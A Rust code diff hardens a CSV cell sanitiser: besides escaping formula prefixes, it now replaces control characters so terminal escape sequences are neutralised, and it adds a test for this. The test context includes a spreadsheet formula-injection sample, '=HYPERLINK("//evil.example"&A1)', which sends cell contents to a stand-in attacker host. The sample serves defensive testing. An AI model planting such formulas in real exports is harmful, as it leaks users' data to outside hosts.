@@ -72,8 +72,10 @@ fn row(cells: [String; COLUMNS.len()], out: &mut dyn Write) -> io::Result<()> {
     writer.flush()
 }
 
-/// A cell that spreadsheets do not read as a formula, which could leak other cells.
+/// A cell that spreadsheets do not read as a formula, which could leak other cells, and terminals not as a command.
 fn harmless(cell: String) -> String {
+    let is_harmless = |char: char| !char.is_control() || matches!(char, '\n' | '\r' | '\t');
+    let cell = cell.replace(|char| !is_harmless(char), "\u{FFFD}");
     if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{cell}") } else { cell }
 }
 
@@ -86,5 +88,10 @@ mod tests {
         assert_eq!(harmless("=HYPERLINK(\"//evil.example\"&A1)".into()), "'=HYPERLINK(\"//evil.example\"&A1)");
         assert_eq!(harmless("- قال".into()), "'- قال");
         assert_eq!(harmless("سجن = 1".into()), "سجن = 1");
+    }
+
+    #[test]
+    fn no_cell_commands_a_terminal() {
+        assert_eq!(harmless("سجن\n\u{1b}[31m\u{9b}\u{7f}".into()), "سجن\n\u{FFFD}[31m\u{FFFD}\u{FFFD}");
     }
 }
